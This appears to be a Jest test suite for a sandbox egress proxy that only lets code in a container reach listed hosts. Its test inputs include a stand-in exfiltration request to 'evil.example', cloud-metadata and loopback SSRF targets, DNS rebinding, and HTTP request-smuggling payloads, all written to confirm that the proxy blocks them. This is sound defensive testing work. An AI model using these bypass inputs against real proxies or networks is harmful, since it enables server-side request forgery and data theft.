import { createServer as createTlsServer } from "node:https";
import { text } from "node:stream/consumers";
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import type { Session } from "../../../../src/ports/executor.js";
import { rarely } from "../../../chance.js";
import { until } from "../../docker/support/engine-by-hand.js";
import { startClient } from "../../docker/support/start-client.js";
import { fetchInPython, openAllowed, python, rawInPython, TestNet } from "./egress-fixture.js";
import { testCertificate, testKey } from "./test-certificate.js";

const listed = [
  "allowed.example",
  "*.wild.example",
  "private.example",
  "mixed.example",
  "rebinding.example",
  "gone.example",
  "closed.example",
  "9.9.9.10:80",
];

describe("code in a container with listed hosts", () => {
  const net = new TestNet();
  let session: Session;
  beforeAll(async () => {
    await net.http("allowed.example", {}, (request, response) => {
      if (request.url === "/moved") {
        response.writeHead(302, { location: "http://private.example/secret" }).end();
        return;
      }
      const body: Buffer[] = [];
      request.on("data", (part: Buffer) => body.push(part));
      request.on("end", () => {
        const { method, url, rawHeaders } = request;
        response.end(JSON.stringify({ method, url, rawHeaders, body: Buffer.concat(body).toString() }));
      });
    });
    const secure = createTlsServer({ key: testKey, cert: testCertificate }, (request, response) =>
      response.end(`secure ${request.url}`),
    );
    await net.serve("secure.example", { port: 443 }, secure);
    await net.http("rebinding.example", { address: "8.8.8.9" }, (_request, response) =>
      response.end("first"),
    );
    await net.http("literal.example", { address: "9.9.9.10" }, (_request, response) =>
      response.end("literal"),
    );
    net.names.set("sub.wild.example", [["8.8.4.4"]]);
    net.names.set("private.example", [["10.0.0.7"]]);
    net.names.set("mixed.example", [["8.8.4.4", "192.168.1.1"]]);
    net.names.set("rebinding.example", [["8.8.8.9"], ["127.0.0.1"]]);
    net.names.set("closed.example", [["9.9.9.9"]]);
    session = await openAllowed(net, listed);
  });
  afterAll(async () => {
    await session.stop();
    await net.close();
  });

  const fetched = async (url: string) => {
    const execution = await python(session, `${fetchInPython}\nprint(fetch(${JSON.stringify(url)}))\n`);
    return { text: execution.stdout.text.trim(), network: execution.network };
  };

  it("reaches a listed host by name, and what was decided is told with the block", async () => {
    const { text, network } = await fetched("http://allowed.example/a?b");
    expect(text).toMatch(/^200 .*"GET".*"\/a\?b".*"Host","allowed.example"/);
    expect(network).toEqual([
      { host: "allowed.example", port: 80, allowed: true, reason: "listed as allowed.example", count: 1 },
    ]);
    expect(await python(session, "print(1)\n")).not.toHaveProperty("network");
  });

  it("reaches a listed host over TLS that ends in the host itself", async () => {
    const code = `
import ssl, urllib.request
context = ssl.create_default_context(cadata=${JSON.stringify(testCertificate)})
print(urllib.request.urlopen("https://allowed.example/x", context=context, timeout=10).read().decode())
`;
    const { stdout, stderr } = await python(session, code);
    expect(stdout.text + stderr.text.slice(-200)).toBe("secure /x\n");
  });

  it("a name below a wildcard is reached, the name itself is not", async () => {
    expect((await fetched("http://sub.wild.example/")).text).toMatch(/^200 /);
    expect((await fetched("http://wild.example/")).text).toMatch(/^403 Not listed/);
  });

  it("an address is reached only where it is listed itself", async () => {
    expect((await fetched("http://9.9.9.10/")).text).toBe("200 literal");
    expect((await fetched("http://8.8.4.4/")).text).toMatch(/^403 Not listed/);
  });

  it("a host that is not listed is refused with the rule, and its name is asked of nobody", async () => {
    const { text, network } = await fetched("http://evil.example/?stolen");
    expect(text).toBe(
      "403 Not listed in allow-host: agent-exec refuses evil.example:80: not listed in allow-host. " +
        `allow-host lists ${listed.join(", ")}.`,
    );
    expect(network).toEqual([
      { host: "evil.example", port: 80, allowed: false, reason: "not listed in allow-host", count: 1 },
    ]);
    expect((await fetched("https://evil.example/")).text).toContain("403 Not listed in allow-host");
    expect(net.asked).not.toContain("evil.example");
  });

  it.each([
    ["http://allowed.example:22/", "lists this host, but only for"],
    ["http://private.example/", "its address 10.0.0.7 is not public: private"],
    ["http://mixed.example/", "its address 192.168.1.1 is not public: private"],
    ["http://127.0.0.1.:3128/", "not listed"],
    ["http://0x7f.1:3128/", "not listed"],
    ["http://[::ffff:7f00:1]:80/", "not listed"],
    ["http://169.254.169.254/latest/meta-data", "not listed"],
  ])("%s is refused: %s", async (url, words) => {
    const before = net.connected.length;
    const code = `${fetchInPython}\nimport os\nos.environ.pop("no_proxy"); os.environ.pop("NO_PROXY")\nprint(fetch(${JSON.stringify(url)}))\n`;
    const { stdout } = await python(session, code);
    expect(stdout.text).toMatch(/^403 /);
    expect(stdout.text).toContain(words);
    expect(net.connected.length).toBe(before);
  });

  it("a name that turns to a private address between two requests is refused the second time", async () => {
    expect((await fetched("http://rebinding.example/")).text).toBe("200 first");
    expect((await fetched("http://rebinding.example/")).text).toContain(
      "its address 127.0.0.1 is not public: loopback",
    );
    expect(net.connected).not.toContain("127.0.0.1:80");
  });

  it("a redirect to a private address is refused like a request for it", async () => {
    const { text, network } = await fetched("http://allowed.example/moved");
    expect(text).toMatch(/^403 Not a public address/);
    expect(network).toContainEqual({
      host: "private.example",
      port: 80,
      allowed: false,
      reason: "its address 10.0.0.7 is not public: private",
      count: 1,
    });
  });

  it("a listed host that cannot be reached is allowed, and the reason says why nothing came of it", async () => {
    expect((await fetched("http://gone.example/")).text).toMatch(/^502 .*its name does not resolve/);
    const { text, network } = await fetched("http://closed.example/");
    expect(text).toMatch(/^502 .*ECONNREFUSED/);
    expect(network).toMatchObject([
      { allowed: true, unreached: true, reason: "listed, but the host could not be reached: ECONNREFUSED" },
    ]);
    expect((await fetched("http://allowed.example/")).network?.[0]).not.toHaveProperty("unreached");
  });

  it.each<[string, string, RegExp]>([
    [
      "a path alone",
      "GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
      /^HTTP\/1.1 400 .*only complete URLs/s,
    ],
    [
      "https in the open",
      "GET https://allowed.example/ HTTP/1.1\r\nHost: x\r\n\r\n",
      /^HTTP\/1.1 400 .*only with CONNECT/s,
    ],
    ["another scheme", "GET ftp://allowed.example/ HTTP/1.1\r\nHost: x\r\n\r\n", /^HTTP\/1.1 400 /],
    [
      "a user's name",
      "GET http://allowed.example@evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n",
      /^HTTP\/1.1 400 .*user name/s,
    ],
    [
      "a backslash",
      "GET http://evil.example\\.allowed.example/ HTTP/1.1\r\nHost: x\r\n\r\n",
      /^HTTP\/1.1 400 /,
    ],
    ["an escape", "GET http://allowed%2eexample/ HTTP/1.1\r\nHost: x\r\n\r\n", /^HTTP\/1.1 400 /],
    ["an asterisk", "OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n", /^HTTP\/1.1 400 /],
    ["CONNECT without a port", "CONNECT allowed.example HTTP/1.1\r\nHost: x\r\n\r\n", /^HTTP\/1.1 400 /],
    [
      "CONNECT with a URL",
      "CONNECT http://allowed.example:443 HTTP/1.1\r\nHost: x\r\n\r\n",
      /^HTTP\/1.1 400 /,
    ],
    [
      "CONNECT to an address of this machine",
      "CONNECT [::1]:443 HTTP/1.1\r\nHost: x\r\n\r\n",
      /^HTTP\/1.1 403 Not listed/,
    ],
    [
      "a length and an encoding",
      "POST http://allowed.example/ HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
      /^HTTP\/1.1 400 /,
    ],
    [
      "two lengths",
      "POST http://allowed.example/ HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcd",
      /^HTTP\/1.1 400 /,
    ],
    [
      "another encoding",
      "POST http://allowed.example/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
      /^HTTP\/1.1 400 /,
    ],
    [
      "a folded header",
      "GET http://allowed.example/ HTTP/1.1\r\nHost: x\r\nA: b\r\n c\r\n\r\n",
      /^HTTP\/1.1 (?:400|200) /,
    ],
    [
      "a header of 20 KiB",
      `GET http://allowed.example/ HTTP/1.1\r\nHost: x\r\nA: ${"b".repeat(20_000)}\r\n\r\n`,
      /^HTTP\/1.1 400 /,
    ],
    ["no HTTP", "\u0016\u0003\u0001\u0000\u0001\u0001", /^HTTP\/1.1 400 /],
  ])("%s gets its answer", async (_what, request, answer) => {
    const code = `${rawInPython}\nprint(raw(${JSON.stringify(request)}.encode("latin1")))\n`;
    expect((await python(session, code)).stdout.text).toMatch(answer);
  });

  it("the host of the URL counts, and nothing of the connection to the proxy goes further", async () => {
    const request =
      "POST http://allowed.example:80/p HTTP/1.1\r\nHost: evil.example\r\nProxy-Authorization: Basic eA==\r\n" +
      "Connection: x-secret, upgrade, content-length\r\nX-Secret: 1\r\nUpgrade: websocket\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\nabc";
    const code = `${rawInPython}\nprint(raw(${JSON.stringify(request)}.encode()))\n`;
    const { stdout } = await python(session, code);
    expect(stdout.text).toMatch(/^HTTP\/1.1 (?:100 Continue\r?\n\r?\n.*)?200 OK/s);
    expect(stdout.text).toContain(
      '"rawHeaders":["Host","allowed.example","Content-Length","3","Connection","close"],"body":"abc"',
    );
  });

  it("a second request on a connection is never passed on", async () => {
    const one = "GET http://allowed.example/one HTTP/1.1\r\nHost: x\r\n\r\n";
    const two =
      "GET http://evil.example/two HTTP/1.1\r\nHost: x\r\n\r\nGET http://allowed.example/three HTTP/1.1\r\nHost: x\r\n\r\n";
    const code = `${rawInPython}\nprint(raw(${JSON.stringify(one + two)}.encode()))\n`;
    const { stdout } = await python(session, code);
    expect(stdout.text).toContain('"url":"/one"');
    expect(stdout.text).not.toContain("/three");
  });

  it("a CONNECT behind a request opens nothing and is not answered", async () => {
    const reached = net.connected.length;
    const one = "GET http://allowed.example/one HTTP/1.1\r\nHost: x\r\n\r\n";
    const two = "CONNECT allowed.example:443 HTTP/1.1\r\nHost: x\r\n\r\n";
    const code = `${rawInPython}\nprint(raw(${JSON.stringify(one + two)}.encode()))\n`;
    const { stdout } = await python(session, code);
    expect(stdout.text).not.toContain("Connection established");
    expect(net.connected.length - reached).toBeLessThanOrEqual(1);
  });

  it.each([
    ["what is no request", "\u0016\u0003\u0001\u0000\u0001\u0001", "this is not an HTTP request"],
    [
      "a head that is too long",
      `GET http://allowed.example/ HTTP/1.1\r\nHost: x\r\nA: ${"b".repeat(20_000)}\r\n\r\n`,
      "the request's head may have at most 16384 bytes",
    ],
    [
      "what expects more",
      "GET http://allowed.example/ HTTP/1.1\r\nHost: x\r\nExpect: tea\r\n\r\n",
      "the proxy does not support the request's header Expect",
    ],
  ])("%s is refused in the report too", async (_what, request, reason) => {
    const code = `${rawInPython}\nprint(raw(${JSON.stringify(request)}.encode("latin1")))\n`;
    const { stdout, network } = await python(session, code);
    expect(stdout.text).toMatch(/^HTTP\/1.1 400 Not understood/);
    expect(network).toContainEqual(expect.objectContaining({ allowed: false, reason }));
  });

  rarely("15 connections at once cause no warning of Node's", async () => {
    const { stdout, stderr } = startClient(new URL("egress-crowd.ts", import.meta.url));
    expect(await Promise.all([stdout, stderr].map(text))).toEqual(["15 established\n", ""]);
  });

  it("HTTP/1.0 without a Host is understood, and a body in chunks is passed on whole", async () => {
    const code = `${rawInPython}
print(raw(b"GET http://allowed.example/old HTTP/1.0\\r\\n\\r\\n"))
print(raw(b"POST http://allowed.example/parts HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n3\\r\\nabc\\r\\n2\\r\\nde\\r\\n0\\r\\n\\r\\n"))
`;
    const { stdout } = await python(session, code);
    expect(stdout.text).toContain('"url":"/old"');
    expect(stdout.text).toContain('"body":"abcde"');
  });

  it("TLS that asks a listed host for another name is broken off, and told", async () => {
    const code = `
import socket, ssl
context = ssl._create_unverified_context()
connection = socket.create_connection(("127.0.0.1", 3128), 10)
connection.sendall(b"CONNECT allowed.example:443 HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
print(connection.recv(1000).split(b"\\r\\n")[0].decode())
try:
    context.wrap_socket(connection, server_hostname="evil.example")
    print("connected")
except OSError as error:
    print("broken off")
`;
    const { stdout, network } = await python(session, code);
    expect(stdout.text).toBe("HTTP/1.1 200 Connection established\nbroken off\n");
    expect(network).toContainEqual({
      host: "allowed.example",
      port: 443,
      allowed: false,
      reason: 'the TLS connection asks for another host, "evil.example"',
      count: 1,
    });
  });

  it("more hosts than are told one by one are counted", async () => {
    const code = `${rawInPython}
for number in range(130):
    raw(b"CONNECT h%d.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % number)
`;
    const { network = [] } = await python(session, code);
    expect(network.length).toBe(101);
    expect(network.at(-1)).toEqual({
      host: "*",
      port: 0,
      allowed: false,
      reason: "further requests",
      count: 30,
    });
  });

  it("a server on the container's own loopback is reached without the proxy, and nothing else is", async () => {
    const code = `${fetchInPython}
import http.server, threading, socket, os
server = http.server.HTTPServer(("127.0.0.1", 8000), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
open("here.txt", "w").write("here")
print(fetch("http://127.0.0.1:8000/here.txt"))
for address in ("8.8.4.4", "172.17.0.1", "169.254.169.254"):
    try: socket.create_connection((address, 80), 1); print("reached")
    except OSError as error: print(error.strerror)
try: print(socket.getaddrinfo("allowed.example", 80))
except OSError as error: print("no name")
print(sorted(os.listdir("/sys/class/net")))
`;
    const { stdout } = await python(session, code);
    expect(stdout.text).toBe(`200 here\n${"Network is unreachable\n".repeat(3)}no name\n['lo']\n`);
  });

  it("a leftover's requests between two blocks are told with the next one, and those after the last when asked for", async () => {
    // Two seconds after its block's program, on a busy machine too: the block has ended then.
    const request = `${fetchInPython}
import os, time
block = os.getpid()
if os.fork() == 0:
    os.setsid()
    for fd in range(3): os.close(fd)
    while os.getppid() == block: time.sleep(0.05)
    time.sleep(2)
    try: fetch("http://late.example/")
    finally: os._exit(0)
`;
    expect(await python(session, request)).not.toHaveProperty("network");
    let told: readonly unknown[] = [];
    await until(async () => (told = session.takeNetworkDecisions?.() ?? []).length > 0);
    expect(told).toMatchObject([{ host: "late.example", allowed: false }]);
    expect(session.takeNetworkDecisions?.()).toEqual([]);
  });
});
